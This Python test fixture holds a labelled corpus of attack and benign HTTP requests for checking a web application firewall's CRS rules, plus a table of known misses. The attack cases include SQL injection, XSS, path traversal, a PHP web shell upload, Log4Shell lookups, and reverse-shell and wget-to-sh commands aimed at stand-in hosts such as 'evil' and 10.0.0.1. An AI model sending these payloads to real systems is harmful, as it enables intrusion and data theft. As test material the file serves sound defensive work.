# ruff: noqa: E501  (one case per line reads best as a table)
"""A small labelled corpus: attacks the CRS must block, ordinary traffic it must pass.

Each case is (name, method, uri, extra headers, body). Extra headers replace the
browser defaults of :data:`tests.waf.helpers.BROWSER`. The corpus runs with
:data:`CORPUS_SETTINGS` (paranoia level 1, a binary-upload path).
"""

from __future__ import annotations

import json

__all__ = ["Case", "ATTACKS", "BENIGN", "CORPUS_SETTINGS", "EXPECTED_MISSES"]

Case = tuple[str, str, str, list[tuple[str, str]], bytes]

FORM = [("content-type", "application/x-www-form-urlencoded")]
JSON = [("content-type", "application/json"), ("accept", "application/json")]


def _json(data: object) -> bytes:
    return json.dumps(data).encode()


def _multipart(filename: str, content: bytes, field: str = "upload") -> tuple[str, bytes]:
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    body = (
        f"--{boundary}\r\n"
        f'Content-Disposition: form-data; name="title"\r\n\r\n'
        f"Holiday pictures\r\n"
        f"--{boundary}\r\n"
        f'Content-Disposition: form-data; name="{field}"; filename="{filename}"\r\n'
        f"Content-Type: application/octet-stream\r\n\r\n"
    ).encode()
    body += content + f"\r\n--{boundary}--\r\n".encode()
    return f"multipart/form-data; boundary={boundary}", body


_PHOTO_TYPE, _PHOTO = _multipart(
    "beach.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(range(256)) * 4
)
_SHELL_TYPE, _SHELL = _multipart("shell.php", b"<?php system($_GET['c']); ?>")
_CSV_TYPE, _CSV = _multipart("report.csv", b"date,amount\n2024-01-02,12.50\n2024-01-03,7.25\n")
_AVATAR_TYPE, _AVATAR = _multipart(
    "me.png", b"\x89PNG\r\n\x1a\n" + bytes(range(255, -1, -1)) * 8, "avatar"
)

# fmt: off
ATTACKS: list[Case] = [
    # SQL injection
    ("sqli query tautology", "GET", "/products?id=1%27%20OR%20%271%27=%271", [], b""),
    ("sqli query union", "GET", "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", [], b""),
    ("sqli query comment", "GET", "/login?user=admin%27--&pass=x", [], b""),
    ("sqli query sleep", "GET", "/?id=1%20AND%20sleep(5)", [], b""),
    ("sqli query benchmark", "GET", "/?id=1%20AND%20BENCHMARK(5000000,MD5(1))", [], b""),
    ("sqli stacked", "GET", "/?id=1;DROP%20TABLE%20users", [], b""),
    ("sqli form", "POST", "/login", FORM, b"username=admin%27%20OR%201%3D1--&password=x"),
    ("sqli json", "POST", "/api/search", JSON, _json({"q": "1' UNION SELECT password FROM users--"})),
    ("sqli json nested", "POST", "/api/v1/items", JSON, _json({"filter": {"id": "1 OR 1=1"}})),
    ("sqli cookie", "GET", "/account", [("cookie", "session=abc; uid=1' OR '1'='1")], b""),
    ("sqli referer", "GET", "/", [("referer", "http://x/?id=1' UNION SELECT 1,2,3--")], b""),
    ("sqli information_schema", "GET", "/?q=1%20and%201=(select%20count(*)%20from%20information_schema.tables)", [], b""),
    # Cross-site scripting
    ("xss query script", "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", [], b""),
    ("xss query img onerror", "GET", "/?q=%3Cimg%20src=x%20onerror=alert(1)%3E", [], b""),
    ("xss query svg onload", "GET", "/?q=%3Csvg/onload=alert(document.cookie)%3E", [], b""),
    ("xss javascript uri", "GET", "/redirect?to=javascript:alert(1)", [], b""),
    ("xss form", "POST", "/comment", FORM, b"text=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil%2F%27%3C%2Fscript%3E"),
    ("xss json", "POST", "/api/profile", JSON, _json({"bio": "<iframe src=javascript:alert(1)>"})),
    ("xss cookie", "GET", "/", [("cookie", "pref=<script>alert(1)</script>")], b""),
    ("xss iframe", "GET", "/?x=%3Ciframe%20src=%22http://evil%22%3E", [], b""),
    # Path traversal / local file inclusion
    ("traversal query", "GET", "/download?file=../../../../etc/passwd", [], b""),
    ("traversal encoded", "GET", "/download?file=..%2f..%2f..%2fetc%2fpasswd", [], b""),
    ("traversal double encoded", "GET", "/?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd", [], b""),
    ("traversal windows", "GET", "/?file=..\\..\\..\\windows\\win.ini", [], b""),
    ("lfi proc", "GET", "/?page=/proc/self/environ", [], b""),
    ("traversal form", "POST", "/view", FORM, b"template=..%2F..%2F..%2Fetc%2Fshadow"),
    ("traversal json", "POST", "/api/files", JSON, _json({"path": "../../../../etc/passwd"})),
    ("rfi", "GET", "/?page=http://203.0.113.9/shell.txt?", [], b""),
    # Command injection
    ("rce semicolon", "GET", "/ping?host=127.0.0.1;cat%20/etc/passwd", [], b""),
    ("rce pipe", "GET", "/ping?host=x%7C%7Cwhoami", [], b""),
    # Known miss at PL1 on both engines: a bare "| id" scores nothing (CRS 4: PL3, 932350).
    ("rce short pipe", "GET", "/?cmd=|%20id", [], b""),
    ("rce pipe cat", "GET", "/?cmd=|%20cat%20/etc/passwd", [], b""),
    ("rce pipe whoami", "GET", "/?cmd=|%20whoami", [], b""),
    ("rce and-and", "GET", "/?host=localhost%26%26uname%20-a", [], b""),
    ("rce reverse shell body", "POST", "/api/exec", JSON, _json({"cmd": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"})),
    ("rce wget pipe sh", "POST", "/hooks", FORM, b"url=x%3Bwget%20-qO-%20http%3A%2F%2Fevil%2Fa.sh%7Csh"),
    ("rce backticks", "GET", "/?x=%60whoami%60", [], b""),
    ("rce subshell", "GET", "/?x=$(curl%20http://evil/x.sh)", [], b""),
    ("rce form", "POST", "/tools/ping", FORM, b"ip=8.8.8.8%3Bwget%20http%3A%2F%2Fevil%2Fx"),
    ("rce json", "POST", "/api/run", JSON, _json({"arg": "; nc -e /bin/sh 10.0.0.1 4444"})),
    ("shellshock", "GET", "/cgi-bin/status", [("user-agent", "() { :; }; /bin/bash -c 'id'")], b""),
    ("powershell", "GET", "/?c=powershell.exe%20-enc%20SQBFAFgA", [], b""),
    # PHP / Java / Node injection
    ("php code", "GET", "/?x=%3C?php%20system($_GET[%27c%27]);%20?%3E", [], b""),
    ("php wrapper", "GET", "/?page=php://filter/convert.base64-encode/resource=index.php", [], b""),
    ("php upload", "POST", "/upload", [("content-type", _SHELL_TYPE)], _SHELL),
    # Log4Shell: CRS 4 rule 944150 at PL1; Debian's CRS 3.3.4 has no log4j rule
    # (in a query its shell-expression rule still catches it).
    ("log4shell user-agent", "GET", "/", [("user-agent", "${jndi:ldap://evil.example/a}")], b""),
    ("log4shell query", "GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", [], b""),
    ("log4shell header", "GET", "/", [("x-api-version", "${jndi:ldap://evil.example/a}")], b""),
    ("log4shell referer", "GET", "/", [("referer", "${jndi:rmi://evil.example:1099/x}")], b""),
    ("log4shell obfuscated", "GET", "/", [("user-agent", "${${lower:j}ndi:${lower:l}dap://evil.example/a}")], b""),
    ("log4shell json body", "POST", "/api/login", JSON, _json({"username": "${jndi:ldap://evil.example/a}", "password": "x"})),
    ("log4shell form body", "POST", "/login", FORM, b"username=%24%7Bjndi%3Adns%3A%2F%2Fevil.example%2Fa%7D&password=x"),
    ("php phpinfo", "GET", "/?x=phpinfo()", [], b""),
    ("php object injection", "POST", "/cart", FORM, b"data=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A4%3A%22file%22%3Bs%3A11%3A%22%2Fetc%2Fpasswd%22%3B%7D"),
    ("php data scheme", "GET", "/?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==", [], b""),
    ("java spring4shell", "POST", "/greeting", FORM, b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    ("java deserialization", "POST", "/api/object", [("content-type", "text/plain")], b"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4Kx"),
    ("node prototype pollution", "POST", "/api/settings", JSON, _json({"__proto__": {"isAdmin": True}})),
    ("node proto query", "GET", "/?__proto__[isAdmin]=true", [], b""),
    ("ssrf cloud metadata", "GET", "/fetch?url=http://169.254.169.254/latest/meta-data/iam/", [], b""),
    ("java class", "GET", "/?x=java.lang.Runtime.getRuntime().exec(%22id%22)", [], b""),
    ("node injection", "POST", "/api/eval", JSON, _json({"code": "require('child_process').exec('id')"})),
    # Scanners
    ("scanner sqlmap", "GET", "/", [("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], b""),
    ("scanner nikto", "GET", "/", [("user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")], b""),
    ("scanner nmap", "GET", "/", [("user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")], b""),
    ("scanner masscan", "GET", "/", [("user-agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)")], b""),
    ("scanner dirbuster", "GET", "/", [("user-agent", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)")], b""),
    ("scanner nuclei", "GET", "/", [("user-agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))")], b""),
    ("scanner wfuzz", "GET", "/", [("user-agent", "Wfuzz/3.1.0")], b""),
    ("scanner gobuster", "GET", "/", [("user-agent", "gobuster/3.6")], b""),
    # Protocol attacks
    ("response splitting", "GET", "/?x=%0d%0aSet-Cookie:%20evil=1", [], b""),
    ("header injection", "GET", "/?lang=en%0d%0aContent-Length:%200", [], b""),
    ("smuggling in body", "POST", "/form", FORM, b"a=x%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20x"),
    ("smuggling cl+te", "GET", "/", [("content-length", "5"), ("transfer-encoding", "chunked")], b""),
    ("method not allowed", "TRACE", "/", [], b""),
    ("null byte in uri", "GET", "/?file=report.pdf%00.php", [], b""),
    ("content type not allowed", "POST", "/api/import", [("content-type", "application/x-evil")], b"a=b"),
    ("restricted file", "GET", "/.git/config", [], b""),
    ("restricted env file", "GET", "/.env", [], b""),
    ("restricted extension", "GET", "/backup/db.sql", [], b""),
    ("session fixation", "GET", "/?PHPSESSID=attacker-chosen-id&x=%3Cmeta%20http-equiv=Set-Cookie%20content=%22PHPSESSID=1%22%3E", [], b""),
]

BENIGN: list[Case] = [
    ("home page", "GET", "/", [], b""),
    ("static css", "GET", "/static/css/site.min.css?v=3.2.1", [("accept", "text/css,*/*;q=0.1")], b""),
    ("static image", "GET", "/img/logo@2x.png", [("accept", "image/avif,image/webp,*/*")], b""),
    ("category page", "GET", "/products?category=shoes&size=42&sort=price_asc&page=2", [], b""),
    ("search words", "GET", "/search?q=red+running+shoes+for+women", [], b""),
    ("search apostrophe", "GET", "/search?q=men%27s+jacket", [], b""),
    ("search irish name", "GET", "/people?last=O%27Brien&first=Sean", [], b""),
    ("unicode query", "GET", "/search?q=caf%C3%A9+cr%C3%A8me+br%C3%BBl%C3%A9e", [], b""),
    ("utm tracking", "GET", "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024", [], b""),
    ("oauth callback", "GET", "/oauth/callback?code=4%2F0AX4XfWh&state=af0ifjsldkj&scope=openid+email", [], b""),
    ("date range", "GET", "/reports?from=2024-01-01&to=2024-03-31&format=csv", [], b""),
    ("email in query", "GET", "/newsletter/confirm?email=jane.doe%40example.com&token=8f14e45fceea167a", [], b""),
    ("cookie session", "GET", "/account", [("cookie", "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc; theme=dark; lang=en")], b""),
    ("referer", "GET", "/products/42", [("referer", "https://shop.example.com/products?category=shoes")], b""),
    ("conditional get", "GET", "/", [("if-none-match", '"5e8d-1a2b3c"'), ("if-modified-since", "Tue, 02 Jan 2024 10:00:00 GMT")], b""),
    ("range request", "GET", "/video/intro.mp4", [("range", "bytes=0-1048575"), ("accept", "*/*")], b""),
    ("login form", "POST", "/login", FORM, b"username=jane.doe%40example.com&password=Tr0ub4dor%263&remember=on"),
    ("contact form", "POST", "/contact", FORM, b"name=Jane+Doe&email=jane%40example.com&message=Hello%2C+I+would+like+to+know+when+the+blue+model+is+back+in+stock.+Thanks%21"),
    ("checkout form", "POST", "/checkout", FORM, b"address=221B+Baker+Street&city=London&zip=NW1+6XE&country=GB&qty=2"),
    ("comment with punctuation", "POST", "/comment", FORM, b"text=Great+product%21+Works+as+described+%E2%80%94+5%2F5%2C+would+buy+again."),
    ("json api create", "POST", "/api/v1/orders", JSON, _json({"items": [{"sku": "SHOE-42-RED", "qty": 2}], "coupon": "SPRING10", "notes": "Leave at the door"})),
    ("json api update", "PUT", "/api/v1/users/123", JSON, _json({"name": "Jane Doe", "email": "jane@example.com", "newsletter": True})),
    ("json api patch", "PATCH", "/api/v1/users/123", JSON, _json({"settings": {"theme": "dark", "timezone": "Europe/Berlin"}})),
    ("json api query", "POST", "/api/search", JSON, _json({"query": "running shoes", "filters": {"price": [50, 120], "brand": ["Acme"]}, "page": 1})),
    ("json graphql", "POST", "/graphql", JSON, _json({"query": "query { product(id: 42) { name price } }", "variables": {}})),
    ("json delete", "DELETE", "/api/v1/sessions/abc123", [("accept", "application/json")], b""),
    ("api bearer token", "GET", "/api/v1/me", [("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.sig"), ("accept", "application/json")], b""),
    ("multipart photo", "POST", "/upload", [("content-type", _PHOTO_TYPE)], _PHOTO),
    ("multipart csv", "POST", "/import", [("content-type", _CSV_TYPE)], _CSV),
    ("options preflight", "OPTIONS", "/api/v1/orders", [("origin", "https://app.example.com"), ("access-control-request-method", "POST")], b""),
    ("head request", "HEAD", "/downloads/manual.pdf", [], b""),
    ("xhr", "GET", "/api/cart", [("x-requested-with", "XMLHttpRequest"), ("accept", "application/json")], b""),
    ("curl client", "GET", "/health", [("user-agent", "curl/8.4.0"), ("accept", "*/*")], b""),
    ("mobile app", "GET", "/api/v2/feed?limit=20&cursor=MTcwNDIwMDAwMA%3D%3D", [("user-agent", "ShopApp/5.3.1 (iPhone; iOS 17.2; Scale/3.00)"), ("accept", "application/json")], b""),
    ("long article path", "GET", "/blog/2024/01/15/how-to-choose-running-shoes-a-complete-guide", [], b""),
    ("encoded slash in id", "GET", "/files/report%202024.pdf", [], b""),
    ("product slug", "GET", "/products/acme-trail-runner-2-mens-blue?ref=home&variant=42", [], b""),
    ("pagination json", "GET", "/api/v1/orders?limit=50&offset=100&sort=-created_at", [("accept", "application/json")], b""),
    ("signup form", "POST", "/signup", FORM, b"first_name=Zo%C3%AB&last_name=Smith-Jones&email=zoe%40example.org&password=correct+horse+battery+staple&terms=on"),
    ("search with dash and quote", "GET", "/search?q=%22blue+suede+shoes%22+-used", [], b""),
    ("json nested api", "POST", "/api/v1/carts/9/items", JSON, _json({"item": {"sku": "TEE-M-BLK", "qty": 1, "options": {"gift": False, "message": "Happy birthday, Sam!"}}})),
    ("json array api", "POST", "/api/v1/events", JSON, _json([{"type": "page_view", "path": "/products/42", "ts": 1704200000}, {"type": "click", "target": "add-to-cart"}])),
    ("multipart avatar", "POST", "/account/avatar", [("content-type", _AVATAR_TYPE)], _AVATAR),
    ("binary upload excluded path", "POST", "/upload/raw/backup.img", [("content-type", "application/octet-stream")], bytes(range(256)) * 32),
]
# fmt: on

CORPUS_SETTINGS = {"exclusions": [{"rule_id": 920420, "path_prefix": "/upload/raw"}]}
"The site's settings: octet-stream uploads allowed under /upload/raw only."

EXPECTED_MISSES: dict[str, dict[str, str]] = {
    "coraza": {
        # CRS 4 has no paranoia level 1 rule for these; the level that catches them:
        "rce short pipe": "PL3 (932350)",
    },
    "modsecurity": {
        "rce short pipe": "no CRS 3 rule below PL3",
        # Debian's CRS 3.3.4 predates the Log4Shell rules (944150-944152); only a
        # query hits its generic shell-expression rule.
        "log4shell user-agent": "CRS 3.3.4 has no Log4Shell rule",
        "log4shell header": "CRS 3.3.4 has no Log4Shell rule",
        "log4shell referer": "CRS 3.3.4 has no Log4Shell rule",
        "log4shell obfuscated": "CRS 3.3.4 has no Log4Shell rule",
        "java spring4shell": "CRS 3.3.4 predates the Spring4Shell rule",
        "node prototype pollution": "CRS 3.3.4 has no prototype pollution rule (934130)",
        "node proto query": "CRS 3.3.4 has no prototype pollution rule (934130)",
    },
}
"Attacks each engine lets through at paranoia level 1, and why."
